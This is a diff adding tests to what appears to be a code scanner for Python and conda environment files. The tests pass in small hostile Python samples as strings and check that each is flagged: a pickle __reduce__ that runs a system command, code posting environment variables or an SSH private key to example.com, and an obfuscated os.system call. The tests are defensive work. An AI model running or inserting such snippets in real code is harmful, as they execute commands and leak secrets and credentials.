@@ -98,3 +98,48 @@ test('code of models as it is written passes', async () => {
     [],
   );
 });
+
+test('what code hands on, sends away, or puts together is told', async () => {
+  const all: readonly (readonly [code: string, rule: string])[] = [
+    [
+      "class A:\n  def __reduce__(self):\n    import os\n    return (os.system, ('id',))\n",
+      'code.runs-command',
+    ],
+    ["class A:\n  def __reduce__(self):\n    return exec, ('x',)\n", 'code.runs-command'],
+    [
+      "import requests, os\ndef f():\n  requests.post('http://example.com', data=dict(os.environ))\n",
+      'code.sends-secrets',
+    ],
+    [
+      "import urllib.request as u\nu.urlopen('http://example.com/?' + open('/root/.ssh/id_rsa').read())\n",
+      'code.sends-secrets',
+    ],
+    ["__import__(''.join(['o', 's'])).system('id')\n", 'code.hidden-code'],
+  ];
+  for (const [code, rule] of all)
+    assert.ok(
+      (await rules('m.py', code)).some((one) => one.startsWith(rule)),
+      code,
+    );
+  assert.deepEqual(
+    await rules(
+      'm.py',
+      'import subprocess, os\ntry:\n    f(subprocess.PIPE, mode=eval)\nexcept (subprocess.CalledProcessError, OSError):\n    x = os.path, 1\n',
+    ),
+    [],
+  );
+});
+
+test('lists of conda are requirements as well', async () => {
+  assert.deepEqual(
+    await rules(
+      'environment.yml',
+      'channels:\n  - conda-forge\ndependencies:\n  - python=3.10\n  - pip:\n    - torch==2\n',
+    ),
+    [],
+  );
+  assert.deepEqual(
+    await rules('environment.yml', 'dependencies:\n  - pip:\n    - git+https://example.com/x\n'),
+    ['repo.requirement-source'],
+  );
+});
